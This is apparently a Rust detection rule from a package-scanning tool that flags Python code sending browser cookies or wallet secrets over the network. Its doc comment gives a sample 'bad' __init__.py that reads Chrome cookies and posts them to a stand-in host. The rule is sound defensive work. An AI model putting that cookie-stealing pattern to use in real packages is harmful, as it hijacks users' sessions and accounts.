//! ## What it detects
//!
//! What was read from browsers, messengers or wallets, or a wallet's key that a caller has handed over, sent over the network as data.
//!
//! ## Why it is bad
//!
//! Cookies are sessions, and phrases are money. Whoever asks for the function doesn't ask for that.
//!
//! ## Innocent lookalikes
//!
//! Downloaders sign in with the cookies of a browser: those go back to where they belong, as cookies and not as data.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import browser_cookie3, requests
//! def warm_up():
//!     jar = browser_cookie3.chrome()
//!     requests.post('http://x.example.invalid', json={c.name: c.value for c in jar})
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import browser_cookie3, requests
//! def page():
//!     return requests.get('http://x.example.invalid', cookies=browser_cookie3.chrome())
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::secret_exfiltration::of;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("browser-exfiltration"),
    title: "sends what browsers and wallets keep",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.0,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| sends_it(call)) {
        hits.call(unit, call, format!("{} of what a browser or wallet keeps", call.callee));
    }
}

fn sends_it(call: &Call) -> bool {
    let signs_in = |name: &str| matches!(name, "cookies" | "headers" | "auth" | "cert");
    let named = call.kwargs.iter().filter(|(name, _)| !signs_in(name)).map(|(_, value)| value);
    let carried = match call.api {
        Some(Api::NetworkSend) => call.args.iter().chain(named).any(|value| of(value).has(Taint::BROWSER)),
        // In the address itself.
        Some(Api::NetworkFetch) => call.args.first().is_some_and(|address| of(address).has(Taint::BROWSER)),
        _ => false,
    };
    carried && !call.callee.contains(".recv")
}
